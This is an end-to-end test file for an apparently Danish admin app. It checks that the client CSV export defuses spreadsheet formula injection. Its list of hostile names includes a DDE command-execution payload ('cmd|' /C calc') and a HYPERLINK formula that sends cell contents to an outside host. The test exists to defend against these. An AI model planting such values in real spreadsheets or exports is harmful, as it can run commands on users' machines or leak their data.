import { readFile } from 'node:fs/promises';
import { createAdmin, signUpVisitor } from '../support/api';
import { expect, signIn, test } from '../support/admin-fixtures';

/** Reads CSV as a spreadsheet does (RFC 4180 quotes; `,` or `;` as the header line shows). */
function readCells(csv: string): string[][] {
  const text = csv.replace(/^\uFEFF/, '');
  const separator = (text.split(/\r?\n/)[0].match(/[;,]/) ?? [','])[0];
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (quoted) {
      cell += c;
    } else if (c === separator) {
      rows[rows.length - 1].push(cell);
      cell = '';
    } else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
      if (c === '\r') i++;
      rows[rows.length - 1].push(cell);
      rows.push([]);
      cell = '';
    } else {
      cell += c;
    }
  }
  rows[rows.length - 1].push(cell);
  return rows;
}

const HOSTILE_NAMES = [
  '=HYPERLINK("http://example.com/?x="&A1,"Klik her")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1;2)',
  '\t=1+1',
];

test('a recruiter exports customers with hostile names and the spreadsheet runs none of them', async ({
  page,
}) => {
  const admin = await createAdmin();
  for (const name of HOSTILE_NAMES) await signUpVisitor(admin.id, { name });
  await signUpVisitor(admin.id, { name: 'Almindelig Anna', phone: '+4512345678' });
  await signIn(page, admin);
  await page.goto('/admin/clients');
  await expect(page.getByTestId('client-count')).toHaveText('Antal på listen: 6');

  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Eksporter' }).click();
  const cells = readCells(await readFile((await (await download).path())!, 'utf8'));

  const [header, ...rows] = cells.filter((row) => row.some(Boolean));
  expect(rows).toHaveLength(6);
  const names = rows.map((row) => row[header.indexOf('Navn')]);
  // Every hostile name is still there to read, as text: behind the quote a spreadsheet hides.
  expect(names.filter((name) => name.startsWith("'"))).toHaveLength(HOSTILE_NAMES.length);
  expect(names.map((name) => name.replace(/^'/, '').trim()).sort()).toEqual(
    ['Almindelig Anna', ...HOSTILE_NAMES.map((name) => name.trim())].sort(),
  );
  expect(rows.map((row) => row[header.indexOf('Tlf')])).toContain("'+4512345678");
  const live = cells.flat().filter((value) => /^[=+\-@\t\r]/.test(value));
  expect(live).toEqual([]);
});
